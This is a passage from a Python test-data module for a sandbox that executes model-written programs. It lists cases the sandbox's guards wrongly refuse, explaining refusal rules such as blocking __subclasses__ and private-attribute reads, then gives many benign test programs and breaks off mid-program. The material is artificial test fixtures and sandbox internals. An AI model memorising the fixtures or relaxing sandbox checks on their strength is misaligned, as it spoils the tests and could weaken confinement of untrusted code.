     "`_azr_match_N = _match_class_(N, lambda: expected, ...)` runs, replaces that stand-in's thunk "
     "(_STAND_INS[id][0] = thunk). The recursive call in the first case's guard runs the same hoisted "
     "assignment in the inner frame, so when the outer match reaches `case expected()` the stand-in "
     "looks `expected` up in the *inner* frame (int, not list). Any recursion between the hoist and a case "
     "(a guard, the subject expression) whose class expression is a local or a closure variable does this. "
     "The thunk belongs to the frame: make a stand-in per execution, or bind the thunk where the case is "
     "tested."),
    ("format_string_reads_own_private_attributes",
     _p("""
        class Account:
            def __init__(self, owner, balance):
                self._owner = owner
                self._balance = balance
            def __str__(self):
                return '{0._owner}: {0._balance:.2f}'.format(self)
        def f(name, amount):
            return str(Account(name, amount))
     """), "'ann', 12.5",
     "_guards.py:check_format_string refuses every private attribute in a format field "
     "('{0._owner}'), whatever object it will be read from, because str.format walks attributes in C. The "
     "program's own private attributes are allowed everywhere else (f-strings, getattr, attrgetter); "
     "str.format with them is the same ordinary code. Checking the walk needs the objects: format through "
     "the guards' Formatter (it calls checked_load per field) instead of refusing by name."),
    ("private_attribute_on_a_library_object_the_program_made",
     _p("""
        import functools
        @functools.lru_cache(maxsize=None)
        def square(n):
            return n * n
        square._label = 'square'
        def f(a):
            err = ValueError('bad')
            err._code = 7
            return [square._label, err._code, square(a)]
     """), "3",
     "_guards.py:_private_ok accepts a private name found in an instance's __dict__ only when the object's "
     "*type* is the program's, or the object is a function or module the program made. An attribute the "
     "program itself set on an instance of a library type it created (an exception, an lru_cache wrapper, "
     "a functools.partial, a Counter) is refused on the way back: writing is allowed (write_guard: the "
     "object is program-owned), reading is not."),
    ("subclasses_of_the_programs_own_class",
     _p("""
        class Shape:
            def area(self):
                raise NotImplementedError
        class Square(Shape):
            def area(self):
                return 4
        class Circle(Shape):
            def area(self):
                return 3
        def f(a):
            return sorted((cls.__name__, cls().area() + a) for cls in Shape.__subclasses__())
     """), "1",
     "policy.REFUSED_ATTRIBUTES holds __subclasses__ and screen.py:_SandboxPolicy.visit_Attribute refuses it "
     "by name, because object.__subclasses__() lists every class in the process. For a class the program "
     "made, __subclasses__() lists only classes the program made (a library class cannot subclass it): "
     "plugin discovery through Base.__subclasses__() is ordinary code. Guard it by the owner (like "
     "__dict__) instead of refusing the name."),
    ("attribute_write_on_an_immutable_builtin_value",
     _p("""
        def f(values):
            out = []
            for v in values:
                try:
                    v.tag = 'x'
                    out.append('set')
                except AttributeError:
                    out.append('immutable')
            return out
     """), "[5, 'a', None, (1,), 'text', 2.5]",
     "_guards.py:write_guard refuses (SandboxViolation, FORBIDDEN) an attribute write on any object alive "
     "at freeze(): small ints, one-character strings, None, True, the empty tuple are interpreter "
     "singletons, so `v.tag = 'x'` on them is a violation, while on 'text' or 2.5 (made by the program) it "
     "is the AttributeError plain Python raises. A program that shows immutability with try/except is "
     "refused depending on which values it picked. An object with no settable attributes cannot be "
     "poisoned: let the real setattr raise its AttributeError/TypeError first, refuse only writes that "
     "would succeed."),
    ("except_star_handlers",
     _p("""
        def f(xs):
            caught = []
            try:
                raise ExceptionGroup('many', [ValueError(x) for x in xs] + [KeyError('k')])
            except* ValueError as group:
                caught.append(len(group.exceptions))
            except* KeyError:
                caught.append('key')
            return caught
     """), "[1, 2]",
     "screen.py keeps RestrictedPython's visit_TryStar, which refuses every `try/except*` ('TryStar statements "
     "are not allowed'), and _fast_accepts sends CHECK_EG_MATCH to it. except* is Python 3.11 syntax for "
     "ExceptionGroup, which the executor otherwise allows (ExceptionGroup is in the builtins); nothing in "
     "the sandbox's layers depends on refusing it (the exceptions it binds are the program's own)."),
    ("peek_then_pop_on_a_large_set",
     _p("""
        def f(n):
            pool = {'item%d' % i for i in range(n)}
            peeked = next(iter(pool))
            return peeked == pool.pop()
     """), "70",
     "In plain Python a set pops the element its iteration yields first, under every seed. In validation's "
     "repeated call _setorder.py reverses iteration for every set but reverses pop only up to 64 elements "
     "(_SMALL): for a larger set the two disagree and a deterministic program is judged NONDETERMINISTIC "
     "('True vs False'). The same split hits a module-level `class Tags(set)` (its iteration keeps the "
     "interpreter's order, its pop is reversed) and a set iterated at module level and again in f."),
    ("private_slot_of_a_library_base_class",
     _p("""
        from fractions import Fraction
        class Ratio(Fraction):
            def parts(self):
                return self._numerator, self._denominator
        def f(a, b):
            return Ratio(a, b).parts()
     """), "2, 4",
     "_guards.py:_private_ok refuses a private name found in a library class's dict, also when the object is "
     "an instance of the program's own subclass reading its own state: Fraction keeps the value in the "
     "slots _numerator/_denominator, which a subclass's methods read. Narrower than the other private-name "
     "false positives; listed because subclassing a standard-library class and using its documented-by-"
     "source internals is common in model-written code (Counter._keep_positive, Fraction._numerator)."),
    ("set_of_grid_cells_iterated_repeatedly",
     _p("""
        def f(n):
            cells = {(i % 97, i // 97) for i in range(5000)}
            total = 0
            for _ in range(n):
                for x, y in cells:
                    total += x
            return total
     """), "400",
     "_setorder.py:SetOrder._reorders decides, on every iter() of a set in validation's repeated call, "
     "whether the set's order depends on the seed by calling _guards.py:order_free on *every element* in "
     "Python (for tuples: isinstance, a generator, a recursive call per item; for objects with a __hash__: "
     "the program's __hash__ under the probe). A set of int tuples (grid cells, visited sets) iterated "
     "again and again costs O(n) Python calls per loop: here 0.15 s in plain Python, over 2 s in the "
     "repeated call, so validate answers TIMEOUT (with the default 5 s limit, 500 rounds of this loop, "
     "0.35 s in plain Python, time out too; a set of 5,000 frozen dataclass points 40x slower). Cache the "
     "verdict per set (or per element type), or decide from the element types as the fast path does."),
    ("guards_add_frames_near_the_recursion_limit",
     _p("""
        class Node:
            def __init__(self, nxt):
                self.nxt = nxt
        def length(node):
            return 0 if node is None else 1 + length(getattr(node, 'nxt'))
        def f(n):
            head = None
            for _ in range(n):
                head = Node(head)
            return length(head)
     """), "995",
     "_worker.py:_same_headroom gives a program the recursion plain Python gives `python -c` (998 frames), "
     "but getattr, hasattr, setattr, vars, hash and locals are Python functions in the guards "
     "(guarded_getattr -> checked_load ...) and spend two or three frames of that budget where plain "
     "Python's builtins spend none; set iteration and hash() in validation's repeated call add more. A "
     "recursion 995 deep that calls getattr at its leaf raises RecursionError in the sandbox only. Add the "
     "guards' depth to the headroom."),
]


# -- ordinary programs ----------------------------------------------------------------------------------
# Programs of the kind a proposer writes for code-reasoning tasks: (name, program, inputs). Each is
# deterministic in plain Python (three hash seeds, the second calling f twice in one namespace, as
# validation does) and the executor must accept it with plain Python's canonical output. None returns
# a value whose repr holds an address or a module name, and no order is taken from a set of strings.
BENIGN3: list[tuple[str, str, str]] = []


def _b(name: str, inputs: str, source: str) -> None:
    BENIGN3.append((name, textwrap.dedent(source).strip("\n") + "\n", inputs))


# classes, private names, descriptors, dataclasses, namedtuples, enums, operators, copy, abc

_b("priv_counter_augmented", "5", """
    class Counter:
        def __init__(self):
            self._count = 0
            self.__hidden = 10
        def tick(self, n):
            for _ in range(n):
                self._count += 1
                self.__hidden -= 1
            return self._count, self.__hidden
    def f(n):
        return Counter().tick(n)
""")
_b("priv_class_attribute_registry", "['a', 'b', 'a']", """
    class Registry:
        _items = []
        _seen = 0
        @classmethod
        def add(cls, x):
            cls._items = cls._items + [x]
            cls._seen += 1
            return cls._seen
    def f(xs):
        class R(Registry):
            _items = []
            _seen = 0
        for x in xs:
            R.add(x)
        return R._items, R._seen
""")
_b("priv_mangled_inheritance", "3", """
    class A:
        def __init__(self):
            self.__v = 1
        def a_value(self):
            return self.__v
    class B(A):
        def __init__(self):
            super().__init__()
            self.__v = 2
        def b_value(self):
            return self.__v
    def f(n):
        b = B()
        return [b.a_value() * n, b.b_value() * n, sorted(k for k in vars(b))]
""")
_b("priv_property_backing_field", "[3, -1, 7]", """
    class Temperature:
        def __init__(self):
            self._celsius = 0.0
        @property
        def celsius(self):
            return self._celsius
        @celsius.setter
        def celsius(self, value):
            if value < -273.15:
                raise ValueError('too cold')
            self._celsius = value
        @property
        def fahrenheit(self):
            return self._celsius * 9 / 5 + 32
    def f(values):
        t = Temperature()
        out = []
        for v in values:
            t.celsius = v
            out.append(round(t.fahrenheit, 1))
        return out
""")
_b("priv_slots_class", "2, 3", """
    class Vec:
        __slots__ = ('_x', '_y')
        def __init__(self, x, y):
            self._x = x
            self._y = y
        def __add__(self, other):
            return Vec(self._x + other._x, self._y + other._y)
        def __repr__(self):
            return f'Vec({self._x}, {self._y})'
    def f(a, b):
        v = Vec(a, b) + Vec(b, a)
        try:
            v.z = 1
        except AttributeError:
            return repr(v), 'no z'
""")
_b("descriptor_set_name_private_storage", "'widget', 4", """
    class Positive:
        def __set_name__(self, owner, name):
            self.private = '_' + name
        def __get__(self, obj, objtype=None):
            if obj is None:
                return self
            return getattr(obj, self.private)
        def __set__(self, obj, value):
            if value <= 0:
                raise ValueError(f'{self.private[1:]} must be positive')
            setattr(obj, self.private, value)
    class Item:
        qty = Positive()
        price = Positive()
        def __init__(self, name, qty, price):
            self.name = name
            self.qty = qty
            self.price = price
    def f(name, qty):
        it = Item(name, qty, 2.5)
        try:
            it.qty = 0
        except ValueError as e:
            err = str(e)
        return it.qty * it.price, err, sorted(vars(it))
""")
_b("descriptor_validator_typed", "'42'", """
    class Typed:
        def __init__(self, kind):
            self.kind = kind
            self.name = None
        def __set_name__(self, owner, name):
            self.name = name
        def __get__(self, obj, owner):
            return obj.__dict__.get(self.name) if obj is not None else self
        def __set__(self, obj, value):
            obj.__dict__[self.name] = self.kind(value)
    class Record:
        n = Typed(int)
        label = Typed(str)
    def f(s):
        r = Record()
        r.n = s
        r.label = 99
        return r.n + 1, r.label + '!'
""")
_b("getattr_delegation_wrapper", "[3, 1, 2]", """
    class Logged:
        def __init__(self, target):
            self._target = target
            self._log = []
        def __getattr__(self, name):
            attr = getattr(self._target, name)
            if callable(attr):
                def wrapper(*args):
                    self._log.append(name)
                    return attr(*args)
                return wrapper
            return attr
    def f(xs):
        w = Logged(list(xs))
        w.append(4)
        w.sort()
        w.reverse()
        return w._target, w._log
""")
_b("setattr_override_validation", "{'a': 1, 'b': 2}", """
    class Frozenish:
        def __init__(self, **kw):
            for k, v in kw.items():
                object.__setattr__(self, k, v)
            object.__setattr__(self, '_locked', True)
        def __setattr__(self, name, value):
            if getattr(self, '_locked', False):
                raise AttributeError(f'cannot set {name}')
            super().__setattr__(name, value)
    def f(kw):
        obj = Frozenish(**kw)
        try:
            obj.a = 5
        except AttributeError as e:
            return str(e), obj.a, obj.b
""")
_b("getattribute_counting_reads", "2", """
    class Counted:
        def __init__(self):
            self.reads = 0
            self.value = 10
        def __getattribute__(self, name):
            if name == 'value':
                object.__setattr__(self, 'reads', object.__getattribute__(self, 'reads') + 1)
            return super().__getattribute__(name)
    def f(n):
        c = Counted()
        total = sum(c.value for _ in range(n))
        return total, c.reads
""")
_b("init_subclass_with_kwargs", "'json'", """
    class Plugin:
        registry = {}
        def __init_subclass__(cls, /, name=None, **kwargs):
            super().__init_subclass__(**kwargs)
            cls.plugin_name = name or cls.__name__.lower()
            Plugin.registry[cls.plugin_name] = cls
    def f(key):
        Plugin.registry.clear()
        class Json(Plugin, name='json'):
            def dump(self, x):
                return f'<{x}>'
        class Yaml(Plugin):
            pass
        return sorted(Plugin.registry), Plugin.registry[key]().dump(1)
""")
_b("class_getitem_generic_container", "[1, 2, 3]", """
    class Box:
        def __class_getitem__(cls, item):
            return f'{cls.__name__}[{item.__name__}]'
        def __init__(self, items):
            self.items = list(items)
    def f(xs):
        return Box[int], Box(xs).items[::-1]
""")
_b("metaclass_prepare_ordered_fields", "0", """
    class FieldsMeta(type):
        @classmethod
        def __prepare__(mcs, name, bases):
            return {}
        def __new__(mcs, name, bases, ns):
            cls = super().__new__(mcs, name, bases, ns)
            cls._fields = [k for k, v in ns.items() if isinstance(v, int) and not k.startswith('__')]
            return cls
    class Config(metaclass=FieldsMeta):
        width = 80
        height = 24
        depth = 3
    def f(a):
        return Config._fields, sum(getattr(Config, k) for k in Config._fields) + a
""")
_b("metaclass_singleton", "3", """
    class Singleton(type):
        _instances = {}
        def __call__(cls, *args, **kwargs):
            if cls not in cls._instances:
                cls._instances[cls] = super().__call__(*args, **kwargs)
            return cls._instances[cls]
    class Settings(metaclass=Singleton):
        def __init__(self, n):
            self.n = n
    def f(n):
        Singleton._instances.clear()
        a = Settings(n)
        b = Settings(n + 1)
        return a is b, b.n
""")
_b("class_decorator_adds_methods", "'x', 'y'", """
    def with_repr(cls):
        def __repr__(self):
            fields = ', '.join(f'{k}={v!r}' for k, v in vars(self).items())
            return f'{type(self).__name__}({fields})'
        cls.__repr__ = __repr__
        return cls
    @with_repr
    class Pair:
        def __init__(self, a, b):
            self.a, self.b = a, b
    def f(a, b):
        return repr(Pair(a, b))
""")
_b("dataclass_private_fields_and_post_init", "[4, 1, 3]", """
    from dataclasses import dataclass, field
    @dataclass
    class Stack:
        _items: list = field(default_factory=list)
        _size: int = field(default=0, repr=False)
        def __post_init__(self):
            self._size = len(self._items)
        def push(self, x):
            self._items.append(x)
            self._size += 1
        def pop(self):
            self._size -= 1
            return self._items.pop()
    def f(xs):
        s = Stack(list(xs))
        s.push(9)
        top = s.pop()
        return repr(s), top, s._size
""")
_b("dataclass_frozen_slots_order", "[(3, 'c'), (1, 'a'), (2, 'b')]", """
    from dataclasses import dataclass
    @dataclass(frozen=True, slots=True, order=True)
    class Key:
        rank: int
        tag: str
    def f(pairs):
        keys = sorted(Key(r, t) for r, t in pairs)
        try:
            keys[0].rank = 10
        except Exception as e:
            err = type(e).__name__
        return [repr(k) for k in keys], err, hash(keys[0]) == hash(Key(1, 'a'))
""")
_b("dataclass_inheritance_defaults_and_kw_only", "'bob'", """
    from dataclasses import dataclass, field, KW_ONLY
    @dataclass
    class Person:
        name: str
        age: int = 0
    @dataclass
    class Employee(Person):
        _: KW_ONLY
        salary: float = 1000.0
        skills: list = field(default_factory=list)
    def f(name):
        e = Employee(name, 30, salary=2500.0, skills=['py'])
        return repr(e), e == Employee(name, 30, salary=2500.0, skills=['py'])
""")
_b("dataclass_initvar_and_field_metadata", "3.0, 4.0", """
    from dataclasses import dataclass, field, fields, InitVar
    @dataclass
    class Vector:
        x: float
        y: float
        scale: InitVar[float] = 1.0
        length: float = field(init=False, metadata={'unit': 'm'})
        def __post_init__(self, scale):
            self.x *= scale
            self.y *= scale
            self.length = (self.x ** 2 + self.y ** 2) ** 0.5
    def f(x, y):
        v = Vector(x, y, scale=2.0)
        return v.length, [(fl.name, dict(fl.metadata)) for fl in fields(v)]
""")
_b("dataclass_asdict_replace_nested", "'root'", """
    from dataclasses import dataclass, asdict, astuple, replace, field
    @dataclass
    class Leaf:
        value: int
    @dataclass
    class Node:
        name: str
        children: list = field(default_factory=list)
    def f(name):
        n = Node(name, [Leaf(1), Leaf(2)])
        m = replace(n, name=name.upper())
        return asdict(n), astuple(m), n == m
""")
_b("dataclass_eq_false_custom_eq", "5", """
    from dataclasses import dataclass
    @dataclass(eq=False)
    class Token:
        kind: str
        text: str
        def __eq__(self, other):
            return isinstance(other, Token) and self.kind == other.kind
        def __hash__(self):
            return hash(self.kind) * 0 + len(self.kind)
    def f(n):
        toks = [Token('num', str(i)) for i in range(n)] + [Token('op', '+')]
        return len(set(toks)), toks[0] == toks[1], repr(toks[-1])
""")
_b("dataclass_unsafe_hash_in_dict", "[(1, 2), (1, 2), (3, 4)]", """
    from dataclasses import dataclass
    @dataclass(unsafe_hash=True)
    class P:
        x: int
        y: int
    def f(pairs):
        counts = {}
        for x, y in pairs:
            p = P(x, y)
            counts[p] = counts.get(p, 0) + 1
        return sorted((p.x, p.y, c) for p, c in counts.items())
""")
_b("dataclass_classvar_and_class_method", "2", """
    from dataclasses import dataclass
    from typing import ClassVar
    @dataclass
    class Circle:
        r: float
        PI: ClassVar[float] = 3.0
        @classmethod
        def unit(cls):
            return cls(1.0)
        def area(self):
            return self.PI * self.r ** 2
    def f(k):
        return [Circle(k).area(), Circle.unit().area(), repr(Circle(k))]
""")
_b("make_dataclass_dynamic", "['a', 'b']", """
    from dataclasses import make_dataclass, field
    def f(names):
        Row = make_dataclass('Row', [(n, int, field(default=0)) for n in names])
        r = Row(**{names[0]: 5})
        return repr(r), Row.__name__
""")
_b("namedtuple_subclass_with_methods", "3, 4", """
    from collections import namedtuple
    class Point(namedtuple('Point', 'x y')):
        __slots__ = ()
        def __abs__(self):
            return (self.x ** 2 + self.y ** 2) ** 0.5
        def scaled(self, k):
            return self._replace(x=self.x * k, y=self.y * k)
    def f(x, y):
        p = Point(x, y)
        return abs(p), p.scaled(2), p._asdict(), Point._fields
""")
_b("namedtuple_defaults_and_make", "[1, 2]", """
    from collections import namedtuple
    Cfg = namedtuple('Cfg', ['host', 'port', 'debug'], defaults=[8080, False])
    def f(vals):
        a = Cfg('localhost')
        b = Cfg._make(['h'] + vals)
        return a, b, Cfg._field_defaults, a._replace(debug=True).debug
""")
_b("typing_namedtuple_with_defaults_and_method", "'x', 2", """
    from typing import NamedTuple
    class Employee(NamedTuple):
        name: str
        level: int = 1
        def promote(self):
            return self._replace(level=self.level + 1)
    def f(name, level):
        e = Employee(name, level)
        return e.promote(), Employee(name), e._fields, tuple(e)
""")
_b("enum_with_methods_and_properties", "'MEDIUM'", """
    import enum
    class Size(enum.Enum):
        SMALL = 1
        MEDIUM = 2
        LARGE = 3
        @property
        def doubled(self):
            return self.value * 2
        def next(self):
            members = list(type(self))
            return members[(members.index(self) + 1) % len(members)]
        @classmethod
        def parse(cls, text):
            return cls[text.upper()]
    def f(name):
        s = Size.parse(name)
        return s.name, s.doubled, s.next().name, [m.name for m in Size]
""")
_b("enum_missing_hook_and_aliases", "'y'", """
    import enum
    class Answer(enum.Enum):
        YES = 'yes'
        NO = 'no'
        Y = 'yes'
        @classmethod
        def _missing_(cls, value):
            if isinstance(value, str):
                for m in cls:
                    if m.value.startswith(value.lower()):
                        return m
            return None
    def f(text):
        return Answer(text).name, Answer.Y is Answer.YES, len(Answer), list(Answer.__members__)
""")
_b("enum_value_with_custom_new", "'MARS'", """
    import enum
    class Planet(enum.Enum):
        MERCURY = (3.303e23, 2.4397e6)
        EARTH = (5.976e24, 6.37814e6)
        MARS = (6.421e23, 3.3972e6)
        def __init__(self, mass, radius):
            self.mass = mass
            self.radius = radius
        @property
        def gravity(self):
            return 6.673e-11 * self.mass / (self.radius * self.radius)
    def f(name):
        p = Planet[name]
        return round(p.gravity, 3), p.value[1]
""")
_b("enum_int_flag_and_str_enum", "5", """
    import enum
    class Perm(enum.IntFlag):
        R = 4
        W = 2
        X = 1
    class Color(enum.StrEnum):
        RED = enum.auto()
        BLUE = enum.auto()
    def f(bits):
        p = Perm(bits)
        return [m.name for m in Perm if m in p], int(p | Perm.W), Color.RED.upper(), Color.BLUE == 'blue'
""")
_b("enum_ordered_comparisons_total_ordering", "['LOW', 'HIGH', 'MID']", """
    import enum
    from functools import total_ordering
    @total_ordering
    class Level(enum.Enum):
        LOW = 1
        MID = 2
        HIGH = 3
        def __lt__(self, other):
            if self.__class__ is other.__class__:
                return self.value < other.value
            return NotImplemented
    def f(names):
        levels = sorted(Level[n] for n in names)
        return [l.name for l in levels], max(levels).name, Level.LOW <= Level.MID
""")
_b("enum_sets_sorted_by_value", "['B', 'A', 'C', 'A']", """
    import enum
    class Grade(enum.Enum):
        A = 3
        B = 2
        C = 1
    def f(names):
        distinct = {Grade[n] for n in names}
        return sorted(g.name for g in distinct), len(distinct), Grade.A in distinct
""")
_b("operator_overloading_matrix2", "[[1, 2], [3, 4]]", """
    class M:
        def __init__(self, rows):
            self.rows = [list(r) for r in rows]
        def __matmul__(self, other):
            cols = list(zip(*other.rows))
            return M([[sum(a * b for a, b in zip(r, c)) for c in cols] for r in self.rows])
        def __eq__(self, other):
            return isinstance(other, M) and self.rows == other.rows
        def __pow__(self, n):
            result = M([[1, 0], [0, 1]])
            for _ in range(n):
                result = result @ self
            return result
        def __neg__(self):
            return M([[-x for x in r] for r in self.rows])
        def __repr__(self):
            return f'M({self.rows})'
    def f(rows):
        m = M(rows)
        return repr(m @ m), repr(m ** 3), -m == M([[-1, -2], [-3, -4]])
""")
_b("operator_overloading_reflected_and_inplace", "7", """
    class Money:
        def __init__(self, cents):
            self.cents = cents
        def __add__(self, other):
            if isinstance(other, Money):
                return Money(self.cents + other.cents)
            if isinstance(other, int):
                return Money(self.cents + other)
            return NotImplemented
        __radd__ = __add__
        def __iadd__(self, other):
            self.cents += other.cents if isinstance(other, Money) else other
            return self
        def __lt__(self, other):
            return self.cents < other.cents
        def __format__(self, spec):
            return format(self.cents / 100, spec)
        def __bool__(self):
            return self.cents != 0
    def f(n):
        total = sum([Money(150), Money(275)], Money(n))
        total += 25
        return f'{total:.2f}', bool(Money(0)), min(Money(5), Money(3)).cents
""")
_b("numeric_dunders_index_int_round", "7", """
    class Fixed:
        def __init__(self, v):
            self.v = v
        def __index__(self):
            return int(self.v)
        def __float__(self):
            return self.v / 1.0
        def __round__(self, n=0):
            return round(self.v, n)
        def __abs__(self):
            return Fixed(abs(self.v))
        def __divmod__(self, other):
            return divmod(self.v, other)
    def f(n):
        x = Fixed(n + 0.625)
        return [list(range(10))[Fixed(3)], bin(Fixed(n)), float(x), round(x, 1), abs(Fixed(-2)).v, divmod(Fixed(n), 3)]
""")
_b("container_protocol_full", "'hello world'", """
    class Sentence:
        def __init__(self, text):
            self._words = text.split()
        def __len__(self):
            return len(self._words)
        def __getitem__(self, i):
            if isinstance(i, slice):
                return Sentence(' '.join(self._words[i]))
            return self._words[i]
        def __setitem__(self, i, v):
            self._words[i] = v
        def __delitem__(self, i):
            del self._words[i]
        def __contains__(self, w):
            return w.lower() in (x.lower() for x in self._words)
        def __iter__(self):
            return iter(self._words)
        def __reversed__(self):
            return reversed(self._words)
        def __str__(self):
            return ' '.join(self._words)
    def f(text):
        s = Sentence(text + ' again')
        s[0] = s[0].title()
        del s[1]
        return str(s), len(s), 'AGAIN' in s, list(reversed(s)), str(s[:1])
""")
_b("iterator_class_with_state", "10", """
    class Fib:
        def __init__(self, limit):
            self._limit = limit
            self._a, self._b = 0, 1
        def __iter__(self):
            return self
        def __next__(self):
            if self._a > self._limit:
                raise StopIteration
            value = self._a
            self._a, self._b = self._b, self._a + self._b
            return value
    def f(limit):
        return list(Fib(limit)), sum(Fib(limit * 10))
""")
_b("context_manager_nested_and_exceptions", "3", """
    class Tracker:
        log = None
        def __init__(self, name):
            self.name = name
        def __enter__(self):
            Tracker.log.append('enter ' + self.name)
            return self
        def __exit__(self, exc_type, exc, tb):
            Tracker.log.append(f'exit {self.name} {exc_type.__name__ if exc_type else None}')
            return exc_type is KeyError
    def f(n):
        Tracker.log = []
        with Tracker('outer'):
            with Tracker('inner') as t:
                Tracker.log.append(t.name * n)
                raise KeyError('x')
            Tracker.log.append('after')
        return Tracker.log
""")
_b("callable_objects_and_closures_compare", "[1, 2, 3]", """
    class Scale:
        def __init__(self, k):
            self.k = k
        def __call__(self, x):
            return x * self.k
    def make_scale(k):
        def scale(x):
            return x * k
        return scale
    def f(xs):
        a, b = Scale(3), make_scale(3)
        return list(map(a, xs)) == list(map(b, xs)), callable(a), [a(x) + b(x) for x in xs]
""")
_b("hash_and_eq_consistent_user_keys", "['ab', 'ba', 'abc', 'cab']", """
    class Anagram:
        def __init__(self, word):
            self.word = word
            self._key = ''.join(sorted(word))
        def __eq__(self, other):
            return self._key == other._key
        def __hash__(self):
            return hash(self._key)
    def f(words):
        groups = {}
        for w in words:
            groups.setdefault(Anagram(w), []).append(w)
        return sorted(sorted(g) for g in groups.values())
""")
_b("copy_custom_copy_and_deepcopy", "[1, [2, 3]]", """
    import copy
    class Doc:
        def __init__(self, data, tags):
            self.data = data
            self.tags = tags
            self._version = 1
        def __copy__(self):
            new = Doc(self.data, self.tags)
            new._version = self._version + 1
            return new
        def __deepcopy__(self, memo):
            new = Doc(copy.deepcopy(self.data, memo), list(self.tags))
            new._version = 100
            return new
    def f(data):
        d = Doc(data, ['x'])
        shallow, deep = copy.copy(d), copy.deepcopy(d)
        deep.data[1].append(4)
        shallow.data[1].append(5)
        return d.data, deep.data, shallow._version, deep._version
""")
_b("copy_getstate_setstate", "'cfg'", """
    import copy
    class Conn:
        def __init__(self, name):
            self.name = name
            self._cache = {'k': 1}
        def __getstate__(self):
            state = self.__dict__.copy()
            del state['_cache']
            return state
        def __setstate__(self, state):
            self.__dict__.update(state)
            self._cache = {}
    def f(name):
        c = copy.deepcopy(Conn(name))
        return c.name, c._cache, sorted(vars(c))
""")
_b("copy_reduce_defined_by_class", "2, 3", """
    import copy
    class Frac:
        def __init__(self, n, d):
            self.n, self.d = n, d
        def __reduce__(self):
            return (Frac, (self.n, self.d))
        def __repr__(self):
            return f'{self.n}/{self.d}'
    def f(n, d):
        a = Frac(n, d)
        b = copy.copy(a)
        c = copy.deepcopy([a, a])
        return repr(b), b is a, c[0] is c[1], repr(c)
""")
_b("copy_slots_object", "4", """
    import copy
    class P:
        __slots__ = ('x', '_y')
        def __init__(self, x, y):
            self.x, self._y = x, y
    def f(n):
        p = P(n, [n])
        q = copy.deepcopy(p)
        q._y.append(0)
        return p.x, p._y, q._y
""")
_b("abc_abstract_and_register", "'sq'", """
    from abc import ABC, abstractmethod
    class Shape(ABC):
        @abstractmethod
        def area(self): ...
        def describe(self):
            return f'{type(self).__name__} with area {self.area():.1f}'
    class Square(Shape):
        def __init__(self, s):
            self._s = s
        def area(self):
            return self._s ** 2
    def f(kind):
        try:
            Shape()
        except TypeError as e:
            err = 'abstract' in str(e)
        return Square(3).describe(), err, isinstance(Square(1), Shape)
""")
_b("collections_abc_mutable_mapping_subclass", "{'B': 1, 'a': 2}", """
    from collections.abc import MutableMapping
    class LowerDict(MutableMapping):
        def __init__(self, data=()):
            self._store = {}
            self.update(data)
        def __getitem__(self, key):
            return self._store[key.lower()]
        def __setitem__(self, key, value):
            self._store[key.lower()] = value
        def __delitem__(self, key):
            del self._store[key.lower()]
        def __iter__(self):
            return iter(self._store)
        def __len__(self):
            return len(self._store)
    def f(d):
        ld = LowerDict(d)
        ld['C'] = 3
        return dict(ld), 'b' in ld, ld.get('A'), len(ld), ld.pop('c')
""")
_b("userdict_userlist_subclasses", "['x', 'Y']", """
    from collections import UserDict, UserList
    class CaseInsensitive(UserDict):
        def __setitem__(self, key, value):
            super().__setitem__(key.lower(), value)
    class Unique(UserList):
        def append(self, item):
            if item not in self.data:
                super().append(item)
    def f(keys):
        d = CaseInsensitive()
        u = Unique()
        for i, k in enumerate(keys * 2):
            d[k] = i
            u.append(k.lower())
        return dict(d), list(u)
""")

# functools, itertools, collections, heapq, bisect, re, string, math, fractions, decimal, statistics, json, typing

_b("lru_cache_method_on_instance_and_info", "30", """
    from functools import lru_cache
    @lru_cache(maxsize=128)
    def ways(n, coins=(1, 5, 10, 25)):
        if n == 0:
            return 1
        if n < 0 or not coins:
            return 0
        return ways(n - coins[0], coins) + ways(n, coins[1:])
    def f(n):
        ways.cache_clear()
        r = ways(n)
        info = ways.cache_info()
        return r, info.misses > 0, info.maxsize
""")
_b("functools_partial_keywords_and_repr_free", "[3, 1, 2]", """
    from functools import partial
    def power(base, exp=2, *, mod=None):
        r = base ** exp
        return r % mod if mod else r
    def f(xs):
        cube = partial(power, exp=3)
        cube_mod = partial(cube, mod=5)
        return [cube(x) for x in xs], [cube_mod(x) for x in xs], cube.keywords, cube_mod.func is power
""")
_b("functools_partialmethod", "4", """
    from functools import partialmethod
    class Cell:
        def __init__(self):
            self.state = None
        def set_state(self, value, n=1):
            self.state = value * n
        set_on = partialmethod(set_state, 'on')
        set_off = partialmethod(set_state, 'off')
    def f(n):
        c = Cell()
        c.set_on(n=n)
        a = c.state
        c.set_off()
        return a, c.state
""")
_b("functools_singledispatch_types", "[1, 'a', [2, 3], 2.5, None]", """
    from functools import singledispatch
    @singledispatch
    def describe(x):
        return 'other'
    @describe.register
    def _(x: int):
        return f'int {x}'
    @describe.register
    def _(x: str):
        return f'str {x!r}'
    @describe.register(list)
    def _(x):
        return 'list of ' + ', '.join(describe(i) for i in x)
    @describe.register(float)
    def _(x):
        return f'float {x:.1f}'
    def f(xs):
        return [describe(x) for x in xs]
""")
_b("functools_singledispatchmethod", "[1, 'x']", """
    from functools import singledispatchmethod
    class Formatter:
        @singledispatchmethod
        def fmt(self, arg):
            return f'? {arg}'
        @fmt.register
        def _(self, arg: int):
            return f'#{arg:03d}'
        @fmt.register
        def _(self, arg: str):
            return arg.upper()
    def f(xs):
        return [Formatter().fmt(x) for x in xs] + [Formatter().fmt(1.5)]
""")
_b("functools_reduce_compose", "[1, 2, 3, 4]", """
    from functools import reduce
    def compose(*fns):
        return reduce(lambda f, g: lambda x: g(f(x)), fns, lambda x: x)
    def f(xs):
        pipeline = compose(lambda x: x + 1, lambda x: x * 2, str)
        return [pipeline(x) for x in xs], reduce(lambda a, b: a * b, xs, 1), reduce(max, xs)
""")
_b("functools_cached_property_private", "[5, 3, 8]", """
    from functools import cached_property
    class Data:
        def __init__(self, xs):
            self._xs = list(xs)
            self._computations = 0
        @cached_property
        def stats(self):
            self._computations += 1
            return min(self._xs), max(self._xs), sum(self._xs) / len(self._xs)
    def f(xs):
        d = Data(xs)
        a = d.stats
        b = d.stats
        del d.stats
        c = d.stats
        return a, a is b, c, d._computations
""")
_b("functools_wraps_decorator_stack", "3", """
    import functools
    def trace(fn):
        @functools.wraps(fn)
        def inner(*args, **kwargs):
            inner.calls += 1
            return fn(*args, **kwargs)
        inner.calls = 0
        return inner
    def retry(times):
        def deco(fn):
            @functools.wraps(fn)
            def inner(*a):
                for _ in range(times - 1):
                    try:
                        return fn(*a)
                    except ValueError:
                        pass
                return fn(*a)
            return inner
        return deco
    def f(n):
        state = {'left': n - 1}
        @trace
        @retry(n)
        def flaky(x):
